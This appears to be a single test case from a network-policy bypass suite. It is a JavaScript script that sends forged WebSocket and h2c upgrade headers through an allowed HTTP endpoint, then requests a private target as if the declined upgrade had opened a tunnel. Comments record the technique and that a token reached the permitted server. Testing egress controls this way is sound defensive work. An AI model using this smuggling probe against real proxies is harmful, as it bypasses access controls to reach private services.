// technique: pretends an upgrade that the server declines, then speaks on as if the connection were a tunnel
// source: WebSocket and h2c smuggling
// success: the permitted server got the token
// control: outside
// policy: network
// beside: origins
import { get, PRIVATE, PUBLIC, say } from './wire.mjs';

for (const upgrade of ['websocket', 'h2c'])
  await say(process.env.ALLOWED_HTTP, [
    get(
      PUBLIC,
      undefined,
      `Connection: Upgrade, HTTP2-Settings\r\nUpgrade: ${upgrade}\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\nSec-WebSocket-Version: 99\r\n`,
    ),
    get(PRIVATE),
  ]);
